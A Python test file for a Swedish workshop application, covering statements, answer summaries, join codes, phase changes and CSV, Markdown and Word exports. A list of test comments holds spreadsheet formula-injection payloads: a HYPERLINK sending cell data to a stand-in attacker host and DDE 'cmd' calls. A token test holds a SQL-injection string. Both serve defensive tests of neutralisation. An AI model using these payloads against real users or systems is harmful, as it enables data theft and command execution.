"""The workshop's pure domain: statements, the scale and results, codes, export."""

from __future__ import annotations

import datetime as dt
import io
import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from iop.engine.case_import import load_case
from iop.io.errors import InputError
from iop.rules.rulebook import load_rulebook
from iop.workshop.codes import (
    CODE_ALPHABET,
    format_code,
    is_token,
    new_code,
    new_token,
    normalise_code,
)
from iop.workshop.export import answers_csv, summary_markdown
from iop.workshop.live import (
    AnonymousAnswer,
    Phase,
    Workshop,
    WorkshopError,
    check_move,
    history_note,
)
from iop.workshop.results import ABSTAIN, CHOICES, MIN_SHOWN, describe, summarise
from iop.workshop.statements import (
    SEED_STATEMENTS,
    Statement,
    statements_from_case,
    statements_from_text,
)
from tests.helpers import CASES, REPO

BOOK = load_rulebook()


def test_a_case_gives_one_statement_per_criterion_in_plain_words_for_a_mixed_room():
    case = load_case(CASES / "ungdomsbussen.yaml", BOOK)
    statements = statements_from_case(case, BOOK)
    criteria = BOOK.sets[case.criteria_set].criteria
    assert [s.criterion_id for s in statements] == [c.id for c in criteria]
    assert [s.text for s in statements] == [c.statement for c in criteria]
    first = statements[0]
    assert first.context == tuple(BOOK.questions.questions[q].text for q in criteria[0].questions)


SECOND_PERSON = re.compile(r"\b(ni|er|ert|era|du|dig|din|ditt|dina)\b", re.IGNORECASE)


@pytest.mark.parametrize("set_id", sorted(BOOK.sets))
def test_no_statement_speaks_to_one_side_of_the_room(set_id: str):
    """The municipality's and the organisation's people answer the same statement: neither is "ni"."""
    case = load_case(CASES / "ungdomsbussen.yaml", BOOK).model_copy(update={"criteria_set": set_id})
    for statement in statements_from_case(case, BOOK):
        assert not SECOND_PERSON.search(statement.text), statement.text
        assert not [c for c in statement.context if SECOND_PERSON.search(c)], statement.context


@pytest.mark.parametrize("set_id", sorted(BOOK.sets))
def test_every_criteria_set_gives_statements_with_unique_ids(set_id: str):
    case = load_case(CASES / "ungdomsbussen.yaml", BOOK).model_copy(update={"criteria_set": set_id})
    ids = [s.id for s in statements_from_case(case, BOOK)]
    assert len(ids) == len(set(ids)) == len(BOOK.sets[set_id].criteria)


def test_the_seed_statements_stand_verbatim_in_the_seed():
    seed = " ".join((REPO / "criteria" / "sources" / "003_23375ff4cec2f418.txt").read_text(encoding="utf-8").split())
    for statement in SEED_STATEMENTS:
        assert statement in seed, statement


def test_a_free_list_drops_bullets_numbers_and_blank_lines():
    statements = statements_from_text("• Första\n\n2. Andra\n- Tredje\n   ")
    assert [s.text for s in statements] == ["Första", "Andra", "Tredje"]
    assert [s.id for s in statements] == ["p1", "p2", "p3"]


@pytest.mark.parametrize(("text", "fragment"), [
    ("  \n ", "minst ett påstående"),
    ("\n".join(f"p{i}" for i in range(41)), "högst 40"),
    ("kort\n" + "x" * 301, "Påstående 2 har 301 tecken"),
])
def test_a_bad_free_list_is_refused_in_swedish(text: str, fragment: str):
    with pytest.raises(InputError) as error:
        statements_from_text(text)
    assert fragment in str(error.value)


def test_fewer_than_three_answers_show_only_the_count():
    result = summarise([5, 1])
    assert (result.answers, result.shown, result.counts, result.spread) == (2, False, {}, None)
    assert "2 svar" in describe(result) and "håller med" not in describe(result)


def test_three_answers_show_the_distribution():
    result = summarise([5, 4, ABSTAIN])
    assert result.shown and result.counts == {1: 0, 2: 0, 3: 0, 4: 1, 5: 1, 0: 1}
    assert result.positioned == 2 and result.mean == 4.5 and result.spread == 0.5


def test_a_split_room_is_marked_as_disagreeing_and_a_united_one_is_not():
    assert summarise([1, 2, 5, 5]).disagreement
    assert not summarise([4, 5, 5, 4]).disagreement
    # one dissenter in five is under a quarter
    assert not summarise([1, 5, 5, 5, 5]).disagreement
    assert summarise([1, 5, 5, 4]).disagreement


@given(st.lists(st.sampled_from(sorted(CHOICES)), min_size=MIN_SHOWN, max_size=80))
def test_disagreement_means_a_quarter_on_each_side(values: list[int]):
    result = summarise(values)
    positions = [v for v in values if v != ABSTAIN]
    low = sum(v <= 2 for v in positions)
    high = sum(v >= 4 for v in positions)
    assert result.disagreement == (bool(positions) and 4 * low >= len(positions) and 4 * high >= len(positions))
    assert sum(result.counts.values()) == len(values)


def test_an_answer_outside_the_scale_is_refused():
    with pytest.raises(ValueError):
        summarise([1, 2, 6])


def test_codes_use_only_the_unambiguous_alphabet_and_typing_is_forgiven():
    code = new_code()
    assert len(code) == 6 and set(code) <= set(CODE_ALPHABET)
    assert not set("0O1IL5S2Z8BUV") & set(CODE_ALPHABET)
    assert normalise_code(format_code(code).lower()) == code
    assert normalise_code(f" {code[:3]}-{code[3:]} ") == code
    assert normalise_code("ABC10O") is None
    assert normalise_code("ACD34") is None


def test_tokens_are_long_and_recognisable():
    assert is_token(new_token())
    assert not is_token("abc") and not is_token("x' or 1=1 --aaaaaaaaaaaaa") and not is_token(None)


def test_a_revealed_statement_cannot_be_opened_again():
    check_move(Phase.open, Phase.revealed)
    check_move(Phase.closed, Phase.open)
    with pytest.raises(WorkshopError, match="redan visat"):
        check_move(Phase.revealed, Phase.open)
    with pytest.raises(WorkshopError):
        check_move(Phase.waiting, Phase.revealed)


def _workshop() -> Workshop:
    created = dt.datetime(2026, 3, 4, 23, 30, tzinfo=dt.UTC)
    statements = (Statement(id="p1", text="Första"), Statement(id="p2", text="Andra"))
    return Workshop(id=7, number=7, code="ACDEFG", title="Test & <prov>", created_at=created,
                    expires_at=created + dt.timedelta(days=1), statements=statements,
                    phases={"p1": Phase.revealed, "p2": Phase.revealed})


def test_the_history_note_names_workshop_date_and_participants_in_swedish_time():
    note = history_note(_workshop(), 12, "Initiativet")
    assert "workshop 7" in note and "2026-03-05" in note and "12 deltagare" in note


def test_the_csv_is_anonymous_sorted_and_leaves_out_statements_with_few_answers():
    answers = {"p1": [AnonymousAnswer(value=5, comment="bra"), AnonymousAnswer(value=1),
                      AnonymousAnswer(value=3, comment="tja")],
               "p2": [AnonymousAnswer(value=4), AnonymousAnswer(value=4)]}
    frame = pd.read_csv(io.StringIO(answers_csv(_workshop(), answers)), keep_default_na=False)
    assert list(frame.columns) == ["påstående_nr", "påstående", "svar", "svar_text", "kommentar"]
    assert frame["svar"].tolist() == [1, 3, 5]
    assert set(frame["påstående_nr"]) == {1}


def test_the_summary_counts_marks_disagreement_and_escapes_free_text():
    answers = {"p1": [AnonymousAnswer(value=v, comment="*fet*" if v == 5 else "") for v in (1, 1, 5, 5)],
               "p2": [AnonymousAnswer(value=4)]}
    text = summary_markdown(_workshop(), answers, participants=4, case_title="Ärende <x>")
    assert "# Workshop 7: Test & \\<prov\\>" in text
    assert "## 1\\. Första – oenighet" in text
    assert "## 2\\. Andra\n" in text and "1 svar. Fördelningen visas först" in text
    assert "\\*fet\\*" in text and "| Deltagare | 4 |" in text


def test_the_word_summary_holds_the_same_content_as_the_markdown():
    import docx

    from iop.documents import render_docx
    from iop.workshop.export import summary_outline

    answers = {"p1": [AnonymousAnswer(value=v, comment="*fet* & <b>" if v == 5 else "") for v in (1, 1, 5, 5)],
               "p2": [AnonymousAnswer(value=4)]}
    document = docx.Document(io.BytesIO(render_docx(summary_outline(_workshop(), answers, participants=4))))
    headings = [p.text for p in document.paragraphs if p.style.name.startswith(("Heading", "Rubrik"))]
    assert headings[:3] == ["Om workshoppen", "1. Första – oenighet", "2. Andra"]
    body = "\n".join(p.text for p in document.paragraphs)
    assert "*fet* & <b>" in body and "1 svar. Fördelningen visas först" in body
    assert document.core_properties.title.startswith("Workshopsammanfattning: Workshop 7")


HOSTILE_COMMENTS = ['=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")', "+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                    "  =1+1", "vanlig kommentar, 5 = bra", '"citat" och ;semikolon;']


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised():
    statements = (Statement(id="p1", text="=1+1 är två"), Statement(id="p2", text="Vanligt påstående"))
    created = dt.datetime(2026, 3, 4, 12, 0, tzinfo=dt.UTC)
    workshop = Workshop(id=1, number=1, code="ACDEFG", title="Formler", created_at=created,
                        expires_at=created + dt.timedelta(days=1), statements=statements,
                        phases={"p1": Phase.revealed, "p2": Phase.revealed})
    answers = {"p1": [AnonymousAnswer(value=3, comment=c) for c in HOSTILE_COMMENTS],
               "p2": [AnonymousAnswer(value=v) for v in (1, 2, 5)]}
    text = answers_csv(workshop, answers)
    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)  # reopened as a spreadsheet reads it
    shown = frame[frame["påstående_nr"] == 1]["kommentar"].tolist()
    for typed in HOSTILE_COMMENTS:
        expected = typed if not typed.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) else "'" + typed
        assert expected in shown, typed
    for cell in [*frame["kommentar"], *frame["påstående"], *frame["svar_text"]]:
        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert set(frame["påstående"]) == {"'=1+1 är två", "Vanligt påstående"}
    assert frame["svar"].dtype.kind == "i" and frame["påstående_nr"].dtype.kind == "i"  # numbers stay numbers
